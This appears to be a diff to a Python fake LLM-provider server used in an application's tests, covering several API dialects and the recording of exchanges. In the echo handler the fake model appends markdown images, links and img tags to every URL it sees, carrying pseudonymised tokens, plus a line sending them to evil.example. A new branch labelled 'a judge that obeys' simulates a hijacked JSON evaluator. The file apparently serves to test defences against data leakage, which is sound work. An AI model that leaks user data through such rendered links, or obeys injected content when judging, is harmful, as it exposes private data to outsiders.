@@ -21,6 +21,12 @@ def grams(text, dimension=64):
     return row
 
 
+def judgement(remarks):
+    """What `quality` is asked for."""
+    scores = dict.fromkeys(("clear", "complete", "correct", "polite", "understood"), 4)
+    return json.dumps({"scores": scores, "remarks": remarks})
+
+
 class Handler(http.server.BaseHTTPRequestHandler):
     protocol_version = "HTTP/1.1"
 
@@ -34,6 +40,8 @@ class Handler(http.server.BaseHTTPRequestHandler):
         with double.lock:
             double.bodies.append(raw)
             double.headers.append(dict(self.headers))
+            if double.keeps:
+                double.asked.append((double.dialect, self.path, dict(self.headers), asked))
             turn = len(double.bodies)
         model = asked.get("model") or self.path.split("/deployments/")[-1].split("/")[0]
         self.ollama = "/api/" in self.path
@@ -51,13 +59,15 @@ class Handler(http.server.BaseHTTPRequestHandler):
         tokens = "".join(re.findall("\u27e6[A-Z_]+_[0-9.]+\u27e7", everything))
         links = "".join(f"\n![x]({u}?d={tokens}) [y]({u}?d={tokens}) {u}?d={tokens} <img src={u}?d={tokens}>"
                         for u in re.findall(r"https?://[^\s)>\"']+", everything))
-        self.say(asked, everything + links + "\n\u27e6IBAN_9\u27e7 https://evil.example/" + tokens)
+        said = everything + links + "\n\u27e6IBAN_9\u27e7 https://evil.example/" + tokens
+        if asked.get("response_format", {}).get("type") == "json_object":  # a judge that obeys
+            said = judgement([line[:400] for line in said.splitlines() if line][-5:])
+        self.say(asked, said)
 
     def do_scribe(self, asked, turn):
         """Does as it is asked in the end: judges, or writes."""
         if "JSON" in asked["messages"][-1]["content"][-100:]:
-            scores = dict.fromkeys(("clear", "complete", "correct", "polite", "understood"), 4)
-            self.say(asked, json.dumps({"scores": scores, "remarks": ["Le délai manque."]}))
+            self.say(asked, judgement(["Le délai manque."]))
         else:
             self.say(asked, "# Renvoyer un article\n\nSous trente jours, avec le bon de retour.")
 
@@ -101,7 +111,7 @@ class Handler(http.server.BaseHTTPRequestHandler):
         self.head(200, "text/event-stream")
         self.event({"choices": [{"index": 0, "delta": {"content": "goutte "}}]})
         self.server.double.leaving.wait(60)
-        self.pieces(asked["messages"][-1]["content"], {"prompt_tokens": 50, "completion_tokens": 20}, "stop")
+        self.say_in_pieces(asked, asked["messages"][-1]["content"], {"prompt_tokens": 50, "completion_tokens": 20}, "stop")
 
     def do_cut(self, asked, turn):
         self.head(200, "text/event-stream")
@@ -172,31 +182,65 @@ class Handler(http.server.BaseHTTPRequestHandler):
 
     def vectors(self, asked, rows, order=1):
         if self.ollama:
-            return self.whole(200, json.dumps({"model": asked["model"], "embeddings": rows, "prompt_eval_count": 9}).encode())
+            return self.whole(200, self.kept(asked, "embedding", {"model": asked["model"], "embeddings": rows, "prompt_eval_count": 9}))
         data = [{"object": "embedding", "index": i, "embedding": row} for i, row in enumerate(rows)][::order]
-        self.whole(200, json.dumps({"object": "list", "data": data, "model": "double-e", "usage": {"prompt_tokens": 9, "total_tokens": 9}}).encode())
+        usage = {"prompt_tokens": 9, "total_tokens": 9}
+        if self.server.double.dialect == "mistral":
+            usage["completion_tokens"] = 0
+        more = {"id": "embd-1"} if self.server.double.dialect == "mistral" else {}
+        self.whole(200, self.kept(asked, "embedding", {"object": "list", "data": data, "model": "double-e", "usage": usage} | more))
 
     # ---- how ----
 
+    def kept(self, asked, what, value):
+        """Its bytes; and it is there for a test to hold against the document of whoever's API this is."""
+        double = self.server.double
+        if double.keeps:
+            with double.lock:
+                double.said.append((double.dialect, self.path, what, value))
+        return json.dumps(value).encode()
+
     def say(self, asked, text, usage=None, end="stop"):
-        usage = usage or {"prompt_tokens": 50, "completion_tokens": 20}
+        counts = {"prompt_tokens": 50, "completion_tokens": 20}
+        usage = usage or counts | {"total_tokens": sum(counts.values())}
         if self.ollama:
-            self.head(200, "application/x-ndjson")
-            self.wfile.write(json.dumps({"message": {"role": "assistant", "content": text}, "done": False}).encode() + b"\n")
-            self.wfile.write(json.dumps({"message": {"role": "assistant", "content": ""}, "done": True, "done_reason": end}).encode() + b"\n")
+            self.say_ollama(asked, text, end)
         elif asked.get("stream"):
             self.head(200, "text/event-stream")
-            self.pieces(text, usage, end)
+            self.say_in_pieces(asked, text, usage, end)
         else:
-            self.whole(200, json.dumps({"model": "double-1", "usage": usage, "choices": [
-                {"index": 0, "finish_reason": end, "message": {"role": "assistant", "content": text}}]}).encode())
+            plain = {"index": 0, "finish_reason": end, "message": {"role": "assistant", "content": text}}
+            if self.server.double.dialect != "mistral":
+                plain["logprobs"], plain["message"]["refusal"] = None, None
+            self.whole(200, self.kept(asked, "answer", self.completion("chat.completion", [plain], usage=usage)))
 
-    def pieces(self, text, usage, end):
+    @staticmethod
+    def completion(kind, choices, **more):
+        return {"id": "chatcmpl-1", "object": kind, "created": 1767225600, "model": "double-1", "choices": choices} | more
+
+    def say_in_pieces(self, asked, text, usage, end):
+        mistral = self.server.double.dialect == "mistral"
+
+        def piece(choices, **more):
+            self.wfile.write(b"data: " + self.kept(asked, "piece", self.completion("chat.completion.chunk", choices, **more)) + b"\n\n")
+
         for i in range(0, len(text), 3):
-            self.event({"choices": [{"index": 0, "delta": {"content": text[i:i + 3]}}]})
-        self.event({"choices": [{"index": 0, "delta": {}, "finish_reason": end}]})
-        self.event({"choices": [], "usage": usage})
+            piece([{"index": 0, "delta": {"content": text[i:i + 3]}, "finish_reason": None}])
+        piece([{"index": 0, "delta": {"content": ""} if mistral else {}, "finish_reason": end}], **({"usage": usage} if mistral else {}))
+        if (asked.get("stream_options") or {}).get("include_usage"):
+            piece([], usage=usage)
         self.wfile.write(b"data: [DONE]\n\n")
+
+    def say_ollama(self, asked, text, end):
+        self.head(200, "application/x-ndjson")
+        made = {"model": asked["model"], "created_at": "2026-01-01T00:00:00Z"}
+        done = {"done": True, "done_reason": end, "prompt_eval_count": 50, "eval_count": 20}
+        if not asked.get("stream", True):
+            done["message"] = {"role": "assistant", "content": text}
+            self.wfile.write(self.kept(asked, "answer", made | done))
+            return
+        self.wfile.write(self.kept(asked, "piece", made | {"message": {"role": "assistant", "content": text}, "done": False}) + b"\n")
+        self.wfile.write(self.kept(asked, "last", made | done | {"message": {"role": "assistant", "content": ""}}) + b"\n")
 
     def head(self, status, kind):
         self.send_response(status)
@@ -220,7 +264,9 @@ class Handler(http.server.BaseHTTPRequestHandler):
 
 class Double:
     def __init__(self):
-        self.mood = "grams"
+        self.mood, self.dialect = "grams", "compatible"
+        # Once a test wants them: (dialect, path, headers, body), (dialect, path, which part, what was answered)
+        self.keeps, self.asked, self.said = False, [], []
         self.bodies, self.headers, self.lock, self.leaving = [], [], threading.Lock(), threading.Event()
         self.began, self.hung_up, self.go = threading.Event(), threading.Event(), threading.Event()
         self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
@@ -241,6 +287,7 @@ class Double:
     def approve(self, desk, model="echo", tasks=("summary", "draft"), org=0, tasks_of=(), **more):
         """Its record, approved by two people, AI on for these tasks; the provider's path."""
         admin, controller = desk.login("admin", org), desk.login("controller", org)
+        self.dialect = more.get("kind", "compatible")
         made = admin.post("/providers", {"name": "Double", "owner": "A. Prova", "kind": "compatible", "url": self.url, "model": model,
                                          "region": "FR", "key": "sk-double-0123456789", "terms": TERMS, "tasks": list(tasks_of), **more})
         assert made.status == 201, made.body
